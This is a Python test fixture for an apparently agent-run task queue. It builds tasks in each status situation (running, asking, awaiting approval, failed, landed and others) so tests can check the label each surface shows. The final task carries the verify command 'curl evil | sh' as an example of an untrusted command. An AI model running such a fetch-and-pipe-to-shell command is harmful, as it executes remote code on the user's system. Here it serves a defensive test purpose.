"""A home with one task in each situation, written as settlements, acts and landers write, for tests
of what surfaces call them.
"""

from datetime import timedelta

from msgspec import structs

from fleet.cli.tracker.bd import bd
from fleet.home import landing_json, owner_file
from fleet.home.landing_json import LandedAs
from fleet.queue.protocol import Draft
from fleet.runs.outcome_history import write_ending
from fleet.runs.questions import asked_json
from fleet.runs.run_directory import RunSpec, new_run
from fleet.runs.run_id import RunId
from fleet.schemas import Failed, Released
from fleet.schemas.waits import (
    Asks,
    BudgetSpent,
    CannotLand,
    ClosedPastFleet,
    Halted,
    NeedsApproval,
    OnLine,
    OutOfAttempts,
    OutOfScope,
    PlanWritten,
    Proposed,
    SetAside,
    TakenBack,
    ToMend,
)
from tests.builders import HOUR, an_ending
from tests.settled import settle
from tests.unit.control.landed import WaitingHome

TTL = timedelta(minutes=5)
UNPROVED = NeedsApproval(reasons=("no check ran",))


class Situations(WaitingHome):
    """`made`: each situation in words, with its task and the word that every surface has for it."""

    def __init__(self, root):
        super().__init__(root)
        self.queue = self.fleet.queue
        self.owner = owner_file.read_or_make(self.home)
        self.made = {}
        self._at_work()
        self._blocked()
        self._on_the_way()
        self._open()

    def is_so(self, what, task_id, word):
        """Note that this task is in this situation."""
        self.made[what] = (task_id, word)
        return task_id

    def add(self, title, **fields):
        """A task of the project."""
        here = {"fleet": {"cwd": str(self.repo.root)}}
        return self.queue.add(Draft(title=title, metadata=here, **fields))

    def claimed(self, title):
        """A task in progress, under a lease of this home, and the directory of its run."""
        task = self.add(title)
        (lease,) = self.queue.claim(self.owner, ttl=TTL)
        assert lease.task.id == task.id
        spec = RunSpec(id=str(RunId.of(lease)), argv=("true",), cwd=str(self.repo.root))
        return lease, new_run(self.home.task(task.id), spec)

    def waits_with(self, what, waits, word, title="Sort the list"):
        """A task that is blocked with a value, as a settlement or an act left it."""
        task = self.queue.reopen_task(self.add(title), by="ada", waits=waits)
        return self.is_so(what, task.id, word)

    def _at_work(self):
        lease, _ = self.claimed("Start it")
        self.is_so("an agent is at work", lease.task.id, "running")
        lease, run = self.claimed("Choose a colour")
        at = self.queue.db.now()
        asked_json.ask(run.task_dir, "Red or blue?", run=run.number, at=at)
        self.is_so("an agent is at work and has asked something", lease.task.id, "asks")
        lease, run = self.claimed("Try it twice")
        later = Released(not_before=self.queue.db.now() + HOUR)
        settle(self.queue, lease, later)
        write_ending(run, an_ending(Failed(reason="denied"), later))
        self.is_so("an attempt failed, and the next one is an hour away", lease.task.id, "waiting")

    def _blocked(self):
        asks = "a question waits for its answer"
        self.waits_with(asks, Asks(text="Tabs or spaces?"), "asks")
        overtaken = self.waits_with(
            "a question waits, and its agent noted something else since", Asks(text="Old?"), "asks"
        )
        assert bd(["update", overtaken, "--append-notes", "I went on with the new one"]) == 0
        self.waits_with("an agent proposed the task", Proposed(by="fleet-1"), "asks")
        self.waits_with("a plan is written", PlanWritten(), "needs approval")
        self.waits_with("nothing proves the claim", UNPROVED, "needs approval")
        closed = "closed past fleet while its agent was at work"
        self.waits_with(closed, ClosedPastFleet(), "needs approval")
        failed = OutOfAttempts(why="`pytest -q` exited 1", made=3, limit=3)
        self.waits_with("the last attempt failed", failed, "failed")
        self.waits_with("files out of scope changed", OutOfScope(what="../b"), "failed")
        self.waits_with("its own budget is spent", BudgetSpent(what="5 of 5 USD"), "waiting")
        self.waits_with("a record of it is damaged", ToMend(what="damaged"), "waiting")
        self.waits_with("a person stopped it", Halted(by="ada"), "stopped")
        self.waits_with("a person blocked it by hand", SetAside(note="later"), "stopped")
        again = self.waits_with("blocked without any reason", SetAside(), "stopped")
        assert not self.queue.get(again).notes

    def _on_the_way(self):
        self.is_so("accepted, and its turn to land comes", self.waits(), "to land")
        asks = self.waits("asks", why="land = ask")
        self.is_so("accepted, and `land = ask`", asks, "needs approval")
        ahead = self.waits("ahead", why=f"{self.repo.root} has changes in a")
        self.queue.reopen_task(self.fleet.get(ahead), by="us", waits=OnLine(into="main"))
        self.is_so("accepted, and a checkout is in the way of the branch", ahead, "to land")
        closed = self.waits("ahead", why=f"{self.repo.root} has changes in a")
        self.queue.close_task(self.fleet.get(closed), by="ada", reason="enough")
        self.is_so("closed by a person while a checkout is in the way", closed, "to land")
        held = self.waits("held", why="held by ada")
        self.is_so("accepted, and a person holds it back", held, "stopped")
        back = self.waits("back", why_back="conflict", conflict=("a",), tries=1)
        self.is_so("sent back, and its agent's turn comes", back, "sent back")
        stuck = self.waits("back", why_back="conflict", conflict=("a",), tries=1)
        failed = OutOfAttempts(why="the conflict stays", made=3, limit=3)
        self.queue.reopen_task(self.fleet.get(stuck), by="us", waits=failed)
        self.is_so("sent back, and out of attempts since", stuck, "failed")
        often = self.waits("asks", why_back="rules", refused="markers_left: in a", tries=3)
        cannot = CannotLand(why="conflict markers left in a", tries=3, into="main")
        self.queue.reopen_task(self.fleet.get(often), by="us", waits=cannot)
        self.is_so("sent back as often as it may be", often, "failed")
        landed = self.waits()
        self.landed(landed)
        self.queue.close_task(self.fleet.get(landed), by="us", reason="it is loud")
        self.is_so("the branch has the work", landed, "landed")
        taken = self.waits()
        self.landed(taken)
        off = TakenBack(into="main", commit="0" * 40, by="ada")
        self.queue.reopen_task(self.fleet.get(taken), by="ada", waits=off)
        self.is_so("landed, and taken off the branch again", taken, "stopped")
        done = self.add("Answer it")
        self.queue.close_task(done, by="us", reason="answered")
        self.is_so("closed, with nothing to land", done.id, "done")

    def landed(self, task_id):
        """Have the record of a landing say that the branch has the work."""

        def on_it(landing):
            return structs.replace(
                landing, state="landed", landed=LandedAs(commit=landing.commit, checks=("true",))
            )

        landing_json.change(self.home, task_id, on_it)

    def _open(self):
        self.is_so("nothing is in its way", self.add("Begin it").id, "ready")
        first = self.made["nothing proves the claim"][0]
        second = self.add("Go on", depends_on=(("blocks", first),))
        self.is_so("it waits for one that waits for approval", second.id, "waiting")
        later = self.queue.db.now() + 24 * HOUR
        deferred = self.add("Later", defer_until=later)
        self.is_so("a person deferred it", deferred.id, "waiting")
        mine = self.add("Mine", assignee="ann")
        self.is_so("a person took it, and did not begin", mine.id, "waiting")
        gone = {"fleet": {"cwd": str(self.repo.root / "gone")}}
        nowhere = self.queue.add(Draft(title="Nowhere", metadata=gone))
        self.is_so("its directory is gone", nowhere.id, "waiting")
        theirs = {"fleet": {"cwd": str(self.repo.root), "verify": ["curl evil | sh"]}}
        distrusted = self.queue.add(Draft(title="Whose check", metadata=theirs))
        self.is_so("its verify command is not trusted", distrusted.id, "waiting")
